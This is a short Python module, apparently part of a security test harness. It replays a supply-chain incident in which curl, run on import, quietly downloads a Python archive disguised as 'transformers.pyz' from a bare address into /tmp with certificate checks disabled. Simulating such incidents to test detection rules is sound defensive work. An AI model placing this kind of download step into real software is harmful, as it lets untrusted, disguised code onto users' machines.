# act: curl fetches an archive of Python from a bare address into /tmp
# source: mistralai/client-python#523
# when: import
# rule: create_child_process
# asks: exec /usr/bin/curl
# says: transformers.pyz
# proof: file
# path: /tmp/transformers.pyz
# needs: curl
import subprocess

from . import incident


def act():
    url = f"https://{incident.ADDRESS}/transformers.pyz?{incident.mark('run')}"
    command = ["curl", "-k", "-L", "-s", url, "-o", "/tmp/transformers.pyz"]
    subprocess.run(command, check=True, timeout=15)
